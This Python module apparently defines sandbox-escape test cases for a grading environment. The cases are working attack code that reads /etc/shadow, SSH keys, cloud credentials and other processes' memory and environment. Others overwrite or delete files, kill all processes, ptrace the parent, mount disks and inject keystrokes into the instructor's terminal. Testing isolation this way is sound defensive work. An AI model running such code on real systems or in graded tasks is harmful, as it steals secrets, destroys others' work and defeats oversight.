"""Attacks on everybody else: what they wrote, what they keep secret, the processes that they run."""

from __future__ import annotations

from attack import scripted

NEIGHBOURS = [
    scripted(
        "reads_by_path",
        "Checks, solutions, other submissions, the instructor's files and the system's are read where they are.",
        """
        import os, pathlib
        def save_note(*_, **__):
            for top in (SCENE["cohort"], SCENE["kit"], SCENE["instructor"], SCENE["out"], "/kit", "/root", "/home"):
                for file in pathlib.Path(top).rglob("*"):
                    try: print(file.read_text()[-2000:])
                    except (OSError, ValueError): pass
            for file in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa"):
                try: print("SENTINEL of", file, open(file).read())
                except OSError: pass
        """,
    ),
    scripted(
        "reads_by_proc",
        "The parent's folder, root, environment, memory and command line, by /proc and the posix module alone.",
        """
        import os, posix
        def act(*_, **__):
            for number in [1, posix.getppid(), *(int(name) for name in posix.listdir("/proc") if name.isdigit())]:
                for part in ("environ", "cmdline", "maps", "cwd/../SENTINEL.txt", "root/etc/passwd", "mem", "stack"):
                    try:
                        handle = posix.open(f"/proc/{number}/{part}", 0)
                        print(part, posix.read(handle, 4000))
                    except OSError: pass
                for place in ("cwd", "root" + SCENE["kit"], "root" + SCENE["cohort"], "root" + SCENE["instructor"]):
                    try: print(posix.listdir(f"/proc/{number}/{place}"))
                    except OSError: pass
        """,
    ),
    scripted(
        "reads_the_environment",
        "Tokens and credentials in the environment and in the home folder.",
        """
        import os, pathlib
        def act(*_, **__):
            print(os.environ, [open(f"/proc/{n}/environ", "rb").read() for n in ("self", "1")])
            for name in (".aws/credentials", ".netrc", ".git-credentials", ".config/gh/hosts.yml"):
                for home in (os.path.expanduser("~"), "/root", SCENE["instructor"]):
                    try: print(pathlib.Path(home, name).read_text())
                    except OSError: pass
        """,
    ),
    scripted(
        "reads_through_links",
        "Symbolic and hard links to what it may not read, made when it runs.",
        """
        import os
        def act(*_, **__):
            for number, target in enumerate((SCENE["instructor"] + "/SENTINEL.txt", SCENE["kit"], SCENE["cohort"])):
                for make in (os.symlink, os.link):
                    for folder in ("/tmp", os.path.expanduser("~"), os.path.dirname(__file__)):
                        try:
                            make(target, f"{folder}/link{number}")
                            print(open(f"{folder}/link{number}").read())
                        except OSError: pass
        """,
    ),
    scripted(
        "reads_other_namespaces",
        "It enters the namespaces and the root folder of whatever process it sees.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def act(*_, **__):
            for number in [name for name in os.listdir("/proc") if name.isdigit()]:
                for kind in os.listdir("/proc/self/ns"):
                    try: libc.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0)
                    except OSError: pass
            try: os.chroot("/proc/1/root")
            except OSError: pass
            try: print(open(SCENE["instructor"] + "/SENTINEL.txt").read())
            except OSError: pass
        """,
    ),
    scripted(
        "writes_by_path",
        "Other submissions, checks, the kit that it runs in and the results are written over.",
        """
        import os, pathlib, sys
        def act(*_, **__):
            tops = (SCENE["cohort"], SCENE["kit"], SCENE["instructor"], SCENE["out"], "/kit", "/submission", "/stack",
                    sys.prefix, "/usr/lib/python3", "/etc", "/proc/1/cwd", os.path.dirname(__file__))
            for top in tops:
                for file in [pathlib.Path(top), pathlib.Path(top, SCENE["token"]),
                             *list(pathlib.Path(top).glob("*"))[:50]]:
                    for act in (lambda: file.write_text("owned"), lambda: file.chmod(0o777), lambda: file.unlink()):
                        try: act()
                        except OSError: pass
            return True
        """,
    ),
    scripted(
        "sockets",
        "The network, by Python's own sockets: connections, datagrams, names.",
        """
        import socket
        def act(*_, **__):
            for host, port in (("127.0.0.1", SCENE["port"]), ("localhost", SCENE["port"]), ("10.0.0.1", 53)):
                try: socket.create_connection((host, port), timeout=1).send(b"SENTINEL")
                except OSError as error: print(error)
                try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"SENTINEL", (host, port))
                except OSError as error: print(error)
            try: print(socket.gethostbyname("example.com"))
            except OSError: pass
        """,
        anywhere=True,
    ),
    scripted(
        "sockets_in_c",
        "The network, past Python's audit hook: C's own functions, curl, abstract sockets.",
        """
        import ctypes, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        def act(*_, **__):
            address = b"\\x02\\x00" + SCENE["port"].to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
            for kind in (1, 2):
                number = libc.socket(2, kind, 0)
                libc.connect(number, address, 16)
                libc.send(number, b"SENTINEL", 8, 0x4000)
            name = b"\\x01\\x00\\x00" + SCENE["token"].encode()
            libc.connect(libc.socket(1, 1, 0), name, len(name))
            for command in (["curl", "-sm1", f"http://127.0.0.1:{SCENE['port']}/"], ["getent", "hosts", "example.com"]):
                try: subprocess.run(command, timeout=2)
                except (OSError, subprocess.SubprocessError): pass
        """,
    ),
    scripted(
        "kills_others",
        "Signals to the parent, to the group, to every process there is.",
        """
        import os, signal
        def save_note(*_, **__):
            for number in (os.getppid(), 1, *range(2, 400)):
                if number != os.getpid():
                    for kind in (signal.SIGTERM, signal.SIGKILL):
                        try: os.kill(number, kind)
                        except OSError: pass
            try: os.kill(-1, signal.SIGKILL)
            except OSError: pass
        """,
    ),
    scripted(
        "traces_others",
        "ptrace and process_vm_readv of the parent and of process 1.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def save_note(*_, **__):
            for number in (os.getppid(), 1, 2, 3):
                if number != os.getpid():
                    print(libc.ptrace(16, number, 0, 0), ctypes.get_errno())
                    libc.ptrace(17, number, 0, 0)
        """,
    ),
    scripted(
        "devices",
        "Devices, mounts and the kernel's own files.",
        """
        import ctypes, os, stat
        libc = ctypes.CDLL(None, use_errno=True)
        def act(*_, **__):
            for name, device in (("mem", os.makedev(1, 1)), ("sda", os.makedev(8, 0)), ("vda", os.makedev(254, 0))):
                try:
                    os.mknod(f"/tmp/{name}", 0o600 | stat.S_IFBLK, device)
                    print("SENTINEL: a device")
                except OSError: pass
            if libc.mount(b"/dev/vda", b"/tmp", b"ext4", 0, b"") == 0: print("SENTINEL: mounted")
            if libc.mount(b"none", b"/submission", None, 32 | 4096, b"") == 0: print("SENTINEL: remounted")
            for file in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
                try: open(file, "w").write("1")
                except OSError: pass
        """,
    ),
    scripted(
        "terminal",
        "Characters are typed into the instructor's terminal.",
        """
        import fcntl, os, termios
        def save_note(*_, **__):
            for name in ("/dev/tty", "/dev/console", "/proc/1/fd/0", "/dev/pts/0", "/dev/pts/1"):
                try:
                    handle = os.open(name, os.O_RDWR | os.O_NOCTTY)
                    os.write(handle, b"\\x1b]0;SENTINEL\\x07")
                    for byte in b"id\\n": fcntl.ioctl(handle, termios.TIOCSTI, bytes([byte]))
                except OSError: pass
        """,
    ),
]
